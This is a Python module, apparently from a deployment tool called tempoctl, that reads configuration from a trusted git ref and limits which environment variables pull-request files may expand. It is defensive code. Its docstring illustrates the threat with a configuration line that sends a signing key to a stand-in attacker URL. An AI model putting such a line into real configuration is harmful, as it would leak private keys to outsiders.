"""The trusted base (DESIGN §8): what decides a command's reach comes from a trusted git ref, never from the
pull request's own files. `plan`, `drift` and `validate` on a PR's content run with `--trusted-base REF` (the
base branch); without it, an operator's own checkout, the working tree is trusted.

Here the base decides which environment variables the state files may expand (desired/loader.py asks
`allows_expansion`). Which hosts, paths, databases and backend `plan`/`drift` read is decided by
desired/reach.py from the same object (`merged`, `get`), so a PR cannot widen what `plan` reads by declaring it.

Expansion rules:
- A variable named by a secret reference (`key: env:VAR`, `secret: env:VAR`, `new_key: env:VAR`, in the
  working tree or the base) and the process's own secret variables (`SECRET_VARIABLES`) are never expanded
  into any field: `rpc_url: https://attacker/${SIGNER_KEY}` would send the key to the attacker.
- Under a ref, any other variable is expanded at a field only where the base's files expand the same
  variable at the same field (so existing files keep working unchanged), or where the base declares it
  (`variables: {NAME: [networks.*.rpc_url, …]}`, in environment.yaml by convention; fnmatch globs over the
  dotted field path). Elsewhere `${VAR:-default}` takes its default without reading VAR, and `${VAR}` is an
  error. An environment that does not exist at the ref has no trusted declarations.
"""

from __future__ import annotations

import fnmatch
import functools
import re
import subprocess
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from tempoctl.desired.expand import references
from tempoctl.desired.source import KeyPath, load_file, render_path
from tempoctl.errors import ConfigError

# Keys whose `env:VAR` value names a variable holding a signing key or a secret.
SECRET_REFERENCE_KEYS = frozenset({"key", "secret", "new_key"})
# Variables tempoctl itself reads secrets from; never expandable into a state file either.
SECRET_VARIABLES = frozenset({"TEMPOCTL_KEYSTORE_PASSWORD", "PGPASSWORD"})
_ENV_REF = re.compile(r"^env:([A-Za-z_][A-Za-z0-9_]*)$")


def secret_variables(documents: Iterator[Any] | list[Any]) -> dict[str, str]:
    """VAR → the dotted field naming it, for every secret reference (`key: env:VAR`, …) in `documents`."""
    out: dict[str, str] = {}
    for doc in documents:
        for path, value in walk(doc):
            if path and path[-1] in SECRET_REFERENCE_KEYS and isinstance(value, str):
                m = _ENV_REF.match(value.strip())
                if m:
                    out.setdefault(m.group(1), render_path(path))
    return out


def walk(node: Any, path: KeyPath = ()) -> Iterator[tuple[KeyPath, Any]]:
    """Every scalar of a plain document with its key path."""
    if isinstance(node, dict):
        for k, v in node.items():
            yield from walk(v, (*path, k))
    elif isinstance(node, list):
        for i, v in enumerate(node):
            yield from walk(v, (*path, i))
    else:
        yield path, node


@dataclass(frozen=True)
class TrustedBase:
    """The trusted declarations of one environment.

    Attributes:
        ref: the git ref they were read from; None when the working tree is trusted.
        environment: the environment folder's name.
        documents: file name → parsed, unexpanded content of each state file at the ref (empty when the
            environment does not exist there, or when the working tree is trusted and not read here).
        exists: whether the environment folder exists at the ref.
        uses: (VAR, dotted field path) for every `${VAR}` the base's files write.
        declared: VAR → field-path globs from the base's `environment.yaml` `variables:`.
        secrets: VAR → where the base names it as a secret reference.
        commit: the commit `ref` resolved to when it was read (None for the working tree).
    """

    ref: str | None
    environment: str
    documents: Mapping[str, Any] = field(default_factory=dict)
    exists: bool = True
    uses: frozenset[tuple[str, str]] = frozenset()
    declared: Mapping[str, tuple[str, ...]] = field(default_factory=dict)
    secrets: Mapping[str, str] = field(default_factory=dict)
    commit: str | None = None

    @classmethod
    def working_tree(cls, environment: str) -> TrustedBase:
        """An operator's own checkout: its files are trusted; only the secret-variable rule applies."""
        return cls(None, environment)

    @classmethod
    def from_git(cls, ref: str, env_root: Path) -> TrustedBase:
        """Read `env_root`'s state files as they are at `ref` in the repository holding `env_root`.

        Raises ConfigError when `env_root` is not in a git repository or `ref` is not a commit. An
        environment absent at `ref` is not an error: it has no trusted declarations (`exists` False).
        """
        folder = env_root.resolve()
        top = _git(folder if folder.is_dir() else folder.parent, "rev-parse", "--show-toplevel")
        if top is None:
            raise ConfigError(f"--trusted-base {ref}: {env_root} is not inside a git repository")
        repo = Path(top.strip())
        commit = _git(repo, "rev-parse", "--verify", "--quiet", f"{ref}^{{commit}}")
        if commit is None:
            raise ConfigError(f"--trusted-base {ref}: no such commit, branch or tag in {repo}",
                              hint="In CI, fetch the base branch first (e.g. git fetch origin main).")
        rel = folder.relative_to(repo).as_posix()
        listing = _git(repo, "ls-tree", "-z", "--name-only", commit.strip(), "--", rel + "/") or ""
        names = sorted(n for n in listing.split("\0") if n.endswith((".yaml", ".yml")))
        docs: dict[str, Any] = {}
        for name in names:
            text = _git(repo, "show", f"{commit.strip()}:{name}")
            if text is None:
                continue
            loaded = load_file(repo / name, text, repo)
            if loaded.diagnostics:
                raise ConfigError(f"--trusted-base {ref}: {name} does not parse there",
                                  detail="\n".join(d.render() for d in loaded.diagnostics))
            if isinstance(loaded.data, dict):
                docs[Path(name).name] = loaded.data
        return cls.of_documents(ref, folder.name, docs, exists=bool(names), commit=commit.strip())

    @classmethod
    def of_documents(cls, ref: str | None, environment: str, docs: Mapping[str, Any], *,
                     exists: bool = True, commit: str | None = None) -> TrustedBase:
        """Build from already parsed documents (file name → content); what tests and `from_git` use."""
        uses: set[tuple[str, str]] = set()
        for doc in docs.values():
            for path, value in walk(doc):
                if isinstance(value, str) and "${" in value:
                    uses.update((name, render_path(path)) for name in references(value))
        declared: dict[str, tuple[str, ...]] = {}
        raw = None
        for name in sorted(docs):
            doc = docs[name]
            if isinstance(doc, dict) and isinstance(doc.get("variables"), dict):
                raw = doc["variables"]
                break
        if isinstance(raw, dict):
            for name, globs in raw.items():
                items = globs if isinstance(globs, list) else [globs]
                declared[str(name)] = tuple(str(g) for g in items if isinstance(g, str))
        return cls(ref, environment, dict(docs), exists, frozenset(uses), declared,
                   secret_variables(list(docs.values())), commit)

    def allows_expansion(self, var: str, field_path: KeyPath | str, *,
                         secrets: Mapping[str, str] | None = None) -> bool:
        """May `${var}` be expanded into the field at `field_path` (a key path or its dotted rendering)?

        `secrets` adds the working tree's own secret references to the base's."""
        if self.secret_reason(var, secrets) is not None:
            return False
        if self.ref is None:
            return True
        dotted = field_path if isinstance(field_path, str) else render_path(field_path)
        if (var, dotted) in self.uses:
            return True
        return any(fnmatch.fnmatchcase(dotted, g) for g in self.declared.get(var, ()))

    def secret_reason(self, var: str, secrets: Mapping[str, str] | None = None) -> str | None:
        """Why `var` is never expandable (it names a key or secret), or None."""
        if var in SECRET_VARIABLES:
            return f"{var} holds a secret tempoctl reads itself"
        where = self.secrets.get(var) or (secrets or {}).get(var)
        if where is not None:
            return f"{var} holds a key or secret (named by {where}: env:{var})"
        return None

    @functools.cached_property
    def _merged(self) -> dict[str, Any]:
        return self.merged()

    def merged(self) -> dict[str, Any]:
        """The base's files merged as the loader merges them (sections by name; the first definition wins)."""
        out: dict[str, Any] = {}
        for name in sorted(self.documents):
            for key, value in (self.documents[name] or {}).items():
                if isinstance(value, dict) and isinstance(out.get(key, {}), dict):
                    section = out.setdefault(key, {})
                    for k, v in value.items():
                        section.setdefault(k, v)
                else:
                    out.setdefault(key, value)
        return out

    def get(self, *path: str | int) -> Any:
        """The base's (unexpanded) value at `path` in the merged document, or None."""
        node: Any = self._merged
        for part in path:
            found = (isinstance(node, dict) and part in node) or (
                isinstance(node, list) and isinstance(part, int) and 0 <= part < len(node))
            if not found:
                return None
            node = node[part]
        return node

    def declares(self, *path: str | int) -> bool:
        """Whether the base declares anything at `path`, e.g. `declares("hosts", "vault-1")`. Always True
        when the working tree is trusted (there is nothing more trusted to compare with)."""
        return True if self.ref is None else self.get(*path) is not None

    def describe(self) -> str:
        return "the working tree" if self.ref is None else f"the trusted base {self.ref}"


def _git(cwd: Path, *args: str) -> str | None:
    """stdout of a git command, or None when it fails (no repository, unknown ref)."""
    try:
        # Literal pathspecs: a folder named ":(glob)…" is a name, not pathspec magic.
        r = subprocess.run(["git", "--literal-pathspecs", "-C", str(cwd), *args], capture_output=True, text=True,
                           timeout=60, check=False)
    except (OSError, subprocess.TimeoutExpired):
        return None
    return r.stdout if r.returncode == 0 else None
